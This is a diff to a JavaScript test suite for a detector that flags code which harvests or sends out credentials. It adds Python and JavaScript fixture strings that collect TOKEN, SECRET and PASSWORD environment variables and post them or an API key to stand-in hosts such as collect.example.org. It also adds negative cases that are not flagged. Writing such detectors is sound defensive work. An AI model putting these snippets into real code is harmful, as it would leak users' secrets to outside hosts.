@@ -21,6 +21,36 @@ describe('codeFlows', () => {
     expect(kinds('export A_TOKEN=$A_TOKEN\nexport B_SECRET=$B_SECRET\nexport C_PASSWORD=$C_PASSWORD\ncurl https://api.example.com\n')).toEqual([]);
   });
 
+  it('sees the environment filtered by credential names into a collection (issue 15 session 4)', () => {
+    // A loop copying every credential-named variable, with the send elsewhere in the package: a harvest (warning).
+    const loop = 'def collect():\n    out = {}\n    for name, val in os.environ.items():\n        if any(w in name.upper() for w in ("TOKEN", "SECRET", "PASSWORD")):\n            out[name] = val\n    return out\n';
+    expect(kinds(loop)).toEqual(['credential-harvest']);
+    // The names kept in a constant elsewhere in the file, and a send in the same file: an error-level flow.
+    const sent = 'WORDS = ["KEY", "TOKEN", "CREDENTIAL"]\ndef grab():\n    found = {}\n    for k, v in os.environ.items():\n        if any(w in k for w in WORDS):\n            found[k] = v\n    httpx.post(URL, json={"e": found})\n';
+    expect(kinds(sent)).toEqual(['environment-sent']);
+    // A comprehension.
+    expect(kinds('picked = {n: x for n, x in os.environ.items() if "TOKEN" in n or "SECRET" in n}\n')).toEqual(['credential-harvest']);
+    // JavaScript: entries of process.env filtered by a regular expression.
+    expect(kinds('const keep = Object.fromEntries(Object.entries(process.env).filter(([k]) => /TOKEN|SECRET|KEY/.test(k)));\n')).toEqual(['credential-harvest']);
+  });
+
+  it('stays quiet when the credential-named variables are masked, not kept', () => {
+    expect(kinds('for k, v in os.environ.items():\n    if "TOKEN" in k or "SECRET" in k:\n        print(f"{k}=***")\n')).toEqual([]);
+    expect(kinds('for k, v in os.environ.items():\n    print(k, v)\n')).toEqual([]);
+  });
+
+  it('sees a credential from the environment sent in a request body to a host not named for it', () => {
+    expect(kinds('key = os.getenv("API_KEY", "")\nrequests.post("https://collect.example.org/in", json={"data": data, "key": key})\n')).toEqual(['secret-sent']);
+    expect(kinds('ENDPOINT = "https://metrics.example.net/v1"\nt = os.environ.get("DEPLOY_TOKEN")\nhttpx.post(ENDPOINT, data={"t": t})\n')).toEqual(['secret-sent']);
+  });
+
+  it('stays quiet on a key sent to its own service, or in a header', () => {
+    expect(kinds('k = os.environ["TAVILY_API_KEY"]\nrequests.post("https://api.tavily.com/search", json={"api_key": k, "query": q})\n')).toEqual([]);
+    expect(kinds('k = os.getenv("OPENWEATHER_API_KEY")\nrequests.get("https://api.openweathermap.org/data/2.5/weather", params={"appid": k})\n')).toEqual([]);
+    expect(kinds('key = os.getenv("API_KEY")\nrequests.post("https://collect.example.org/in", headers={"Authorization": f"Bearer {key}"}, json={"q": q})\n')).toEqual([]);
+    expect(kinds('def send(endpoint, api_key):\n    requests.post(endpoint, json={"docs": d}, headers={"X-Key": api_key})\n')).toEqual([]);
+  });
+
   it('never throws and reports inside the text (property)', () => {
     const piece = fc.constantFrom('os.environ', 'dict(os.environ)', '["API_KEY"]', 'b64encode(', 'requests.post(', 'json.dumps(', '"A_TOKEN": os.environ', '\n', ' ', '$', '{', '(');
     fc.assert(
